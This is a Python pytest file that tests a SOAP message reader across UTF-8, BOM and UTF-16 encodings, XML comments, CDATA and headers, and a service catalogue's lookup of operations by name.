@pytest.mark.parametrize("declaration", [True, False], ids=["declared", "undeclared"])
def test_utf_8_with_and_without_a_declaration(declaration: bool) -> None:
    request = op("MetricsService", "GetLicenseConsumedCount")
    token = "jeton-é-😀"
    text = envelope(element(request.request, sso_token(token)), declaration=declaration)
    for data in (text, text.encode("utf-8"), b"\xef\xbb\xbf" + text.encode("utf-8")):
        message = read_soap(data)
        assert message.operation == request
        assert message.token == token


def test_utf_16_bytes_and_a_str_whose_declaration_names_another_encoding() -> None:
    request = op("MetricsService", "GetVersion")
    body = element(request.request)
    utf16 = ('<?xml version="1.0" encoding="UTF-16"?>' + envelope(body, declaration=False)).encode("utf-16")
    assert read_soap(utf16).operation == request
    # A str is already decoded: its declaration is not looked at.
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?>' + envelope(body, declaration=False)
    assert read_soap(latin).operation == request


def test_comments_cdata_and_a_header_do_not_change_the_reading() -> None:
    request = op("UserService", "Subscribe")
    endpoint = "<m:ConsumerEndpoint><![CDATA[http://c]]></m:ConsumerEndpoint>"
    text = envelope(
        "<!-- a comment -->" + element(request.request, endpoint),
        header='<soapenv:Header><h:x xmlns:h="urn:h">1</h:x></soapenv:Header>',
    )
    message = read_soap(text, soap_action=request.soap_action)
    assert message.operation == request
    assert not message.sso_token


def test_a_service_finds_its_operation_by_name() -> None:
    from ccproto.cct.catalogue import service

    metrics = service("MetricsService")
    assert metrics.operation("GetLicenseConsumedCount").name == "GetLicenseConsumedCount"
    with pytest.raises(KeyError, match="MetricsService has no operation 'LogInToCCTServer'"):
        metrics.operation("LogInToCCTServer")
